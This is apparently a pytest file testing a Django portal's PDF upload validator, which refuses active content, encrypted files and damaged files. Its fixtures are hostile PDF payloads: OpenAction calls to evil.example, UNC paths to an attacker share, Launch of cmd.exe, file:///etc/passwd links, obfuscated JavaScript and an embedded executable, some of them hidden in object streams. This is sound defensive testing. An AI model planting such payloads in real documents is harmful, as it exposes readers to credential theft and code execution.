"""A PDF is judged by its parsed objects, not by a look at its bytes: actions that fire on
opening or open other files, forms that send data, scripts and attachments are refused
wherever they hide (compressed object streams included); encrypted and unreadable files are
refused because what cannot be read cannot be judged. Ordinary documents still pass."""

import io
import time

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject

from portal.documents import validate_pdf
from tests.support import pdf_bytes, pdf_with_object_stream

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def page_with(entries: bytes) -> bytes:
    return PAGE % entries


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + action + b" >>"


ACTIVE = {
    "URI on opening": pdf_bytes(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    "form submitted on opening": pdf_bytes(
        catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"
    ),
    "UNC path opened on opening": pdf_bytes(
        catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"
    ),
    "action of the opening in its own object": pdf_bytes(
        b"<< /Type /Action /S /GoToR /F (//attacker/share/x.pdf) /D [0 /Fit] >>",
        catalog=b"/OpenAction 3 0 R",
    ),
    "embedded go-to on opening": pdf_bytes(catalog=b"/OpenAction << /S /GoToE /T << >> >>"),
    "data imported on opening": pdf_bytes(catalog=b"/OpenAction << /S /ImportData /F (a.fdf) >>"),
    "named menu command on opening": pdf_bytes(catalog=b"/OpenAction << /S /Named /N /Print >>"),
    "URI after a harmless go-to": pdf_bytes(
        catalog=b"/OpenAction << /S /GoTo /D [0 /Fit] /Next << /S /URI /URI (https://x/) >> >>"
    ),
    "document action on close": pdf_bytes(
        catalog=b"/AA << /WC << /S /URI /URI (https://x/) >> >>"
    ),
    "page action on opening the page": pdf_bytes(
        page_with(b"/AA << /O << /S /Launch /F (calc.exe) >> >>")
    ),
    "link to a UNC path": pdf_bytes(
        page_with(b"/Annots [4 0 R]"), link(b"<< /S /URI /URI (\\\\\\\\host\\\\s) >>")
    ),
    "link to a local file": pdf_bytes(link(b"<< /S /URI /URI (file:///etc/passwd) >>")),
    "link that launches": pdf_bytes(link(b"<< /S /Launch /F (cmd.exe) >>")),
    "link that opens another PDF": pdf_bytes(link(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")),
    "form field with a keystroke script": pdf_bytes(
        b"<< /FT /Tx /T (a) /AA << /K 4 0 R >> >>",
        b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>",
        catalog=b"/AcroForm << /Fields [3 0 R] >>",
    ),
    "document-level script in the names tree": pdf_bytes(
        b"<< /Names [(a) 4 0 R] >>",
        b"<< /S /JavaScript /JS 5 0 R >>",
        b"<< /Length 11 >>\nstream\napp.alert()\nendstream",
        catalog=b"/Names << /JavaScript 3 0 R >>",
    ),
    "file attachment annotation": pdf_bytes(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        b"<< /Length 2 >>\nstream\nMZ\nendstream",
    ),
    "rich media annotation": pdf_bytes(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "script in a compressed object stream": pdf_with_object_stream(
        b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    ),
    "URI on opening in a compressed object stream": pdf_with_object_stream(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://x/) >> >>"
    ),
    "UNC link in a compressed object stream": pdf_with_object_stream(
        link(b"<< /S /URI /URI (\\\\\\\\host\\\\s) >>")
    ),
}


def written_pdf(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypt(writer):
    writer.encrypt("", "owner-password", algorithm="RC4-128")


def linked_and_labelled(writer):
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://admin.example.ru/"))
    writer.add_annotation(0, Link(rect=(50, 90, 200, 120), target_page_index=0))
    writer.set_page_label(0, 0, "/D")
    writer.pages[0][NameObject("/Group")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Transparency")}
    )
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    writer.add_outline_item("Раздел 1", 0)
    writer._root_object[NameObject("/PageMode")] = NameObject("/UseOutlines")
    writer.pages[0][NameObject("/Rotate")] = NumberObject(0)


PASSIVE = {
    "the smallest document": pdf_bytes(),
    "written by a PDF library": written_pdf(lambda writer: None),
    "links to the web and to a page, page labels, an outline": written_pdf(linked_and_labelled),
    "go to a page on opening": pdf_bytes(catalog=b"/OpenAction << /S /GoTo /D [0 /Fit] >>"),
    "mail link": pdf_bytes(link(b"<< /S /URI /URI (mailto:press@admin.example.ru) >>")),
    "packed into a compressed object stream": pdf_with_object_stream(
        link(b"<< /S /URI /URI (https://admin.example.ru/) >>")
    ),
}

UNREADABLE = {
    "encrypted": (written_pdf(encrypt), "pdf_encrypted"),
    "no cross-reference table nor objects": (b"%PDF-1.4\ngarbage\n%%EOF\n", "pdf_damaged"),
    "absurdly nested arrays": (
        pdf_bytes(b"[" * 100_000 + b"]" * 100_000),
        "pdf_damaged",
    ),
    "stream of a false length": (
        pdf_bytes(b"<< /Length 99999999 >>\nstream\nx\nendstream"),
        "pdf_damaged",
    ),
}


def upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("soglashenie.pdf", content, content_type="application/pdf")


@pytest.mark.parametrize("case", ACTIVE)
def test_active_pdfs_are_refused(case):
    with pytest.raises(ValidationError) as raised:
        validate_pdf(upload(ACTIVE[case]))

    assert raised.value.code == "pdf_with_active_content"


@pytest.mark.parametrize("case", PASSIVE)
def test_passive_pdfs_are_accepted(case):
    validate_pdf(upload(PASSIVE[case]))


@pytest.mark.parametrize("case", UNREADABLE)
def test_pdfs_that_cannot_be_judged_are_refused(case):
    content, code = UNREADABLE[case]

    with pytest.raises(ValidationError) as raised:
        validate_pdf(upload(content))

    assert raised.value.code == code


def test_the_hidden_script_is_really_hidden_from_a_look_at_the_bytes():
    content = ACTIVE["script in a compressed object stream"]

    assert b"JavaScript" not in content
    assert b"/JS" not in content


def test_a_pdf_of_countless_objects_is_refused_at_once():
    content = pdf_bytes(*([b"<< /A 1 >>"] * 100_000))

    started = time.monotonic()
    with pytest.raises(ValidationError) as raised:
        validate_pdf(upload(content))

    assert time.monotonic() - started < 10  # the cross-reference table is still read
    assert raised.value.code == "pdf_too_complex"


def test_a_pdf_of_thousands_of_objects_is_accepted():
    validate_pdf(upload(pdf_bytes(*([b"<< /A 1 >>"] * 5_000))))
